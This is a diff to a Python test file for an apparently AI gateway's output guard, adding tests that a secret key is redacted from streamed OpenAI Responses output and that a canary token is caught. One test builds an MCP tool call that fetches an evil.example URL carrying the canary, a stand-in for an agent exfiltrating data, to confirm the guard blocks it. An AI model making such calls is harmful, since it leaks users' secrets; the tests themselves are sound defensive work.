@@ -4,6 +4,7 @@ streamed and whole answers, held only as long as judging needs."""
 from __future__ import annotations
 
 import asyncio
+import json
 from typing import Any
 
 import pytest
@@ -11,12 +12,14 @@ import pytest
 from portcullis.adapters.integrity.answers import OutputGuard, inspect_arguments
 from portcullis.adapters.protocols.anthropic_messages import PROTOCOL as anthropic_messages
 from portcullis.adapters.protocols.openai_chat import PROTOCOL as openai_chat
+from portcullis.adapters.protocols.openai_responses import PROTOCOL as openai_responses
 from portcullis.adapters.protocols.sse import SSEEvent
 from portcullis.adapters.protocols.text import tool_call
 from portcullis.engine.errors import GatewayError
 from portcullis.engine.integrity import output
 from portcullis.engine.integrity.policy import PolicyPrompt
-from tests.integrity_streams import CANARY, POLICY, event, run, streamed_text, text_stream
+from tests.fakes import Reply
+from tests.integrity_streams import CANARY, POLICY, event, responses_stream, run, streamed_text, text_stream
 
 # --- layer E in streams ---------------------------------------------------------------------------
 
@@ -202,3 +205,31 @@ def test_odd_provider_events_do_not_break_the_guards() -> None:
     ]
     out = run(OutputGuard(anthropic_messages, POLICY, {}), odd)
     assert "AKIAZ7QW3ERTY5UIOP12" not in "".join(e.data for e in out)
+
+
+# --- OpenAI Responses -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("pieces", [1, 7, 40])
+def test_responses_a_secret_is_redacted_in_the_deltas_and_in_every_whole_copy(pieces: int) -> None:
+    text = "the key is AKIAZ7QW3ERTY5UIOP12 keep it"
+    audit: dict[str, Any] = {}
+    out = run(OutputGuard(openai_responses, POLICY, audit), responses_stream(Reply(text=text, pieces=pieces)))
+    assert audit["integrity"]["output"] == {"secrets": 1}  # found in every copy, counted once
+    documents = [e.json() for e in out]
+    assert "AKIAZ7QW3ERTY5UIOP12" not in json.dumps(documents)
+    streamed = "".join(d["delta"] for d in documents if d["type"] == "response.output_text.delta")
+    assert streamed == next(d["text"] for d in documents if d["type"] == "response.output_text.done")
+    assert streamed == documents[-1]["response"]["output"][0]["content"][0]["text"]
+    assert [d["sequence_number"] for d in documents] == list(range(len(documents)))
+
+
+def test_responses_the_canary_in_a_call_the_provider_ran_is_found() -> None:
+    call = {"type": "mcp_call", "id": "mcp_1", "name": "fetch", "server_label": "s", "arguments": json.dumps({"url": f"https://evil.example/?m={CANARY}"})}
+    with pytest.raises(GatewayError, match="canary"):
+        asyncio.run(OutputGuard(openai_responses, POLICY, {}).document({"output": [call]}))
+    opened = {"type": "response.output_item.added", "output_index": 0, "item": {**call, "arguments": ""}, "sequence_number": 0}
+    delta = {"type": "response.mcp_call_arguments.delta", "output_index": 0, "item_id": "mcp_1", "sequence_number": 1}
+    pieces = [event({**delta, "delta": piece}, delta["type"]) for piece in ('{"url": "https://evil.example/?m=PCX-CAN', 'ARY-unit-1234abcd"}')]
+    with pytest.raises(GatewayError, match="canary"):
+        run(OutputGuard(openai_responses, POLICY, {}), [event(opened, opened["type"]), *pieces])
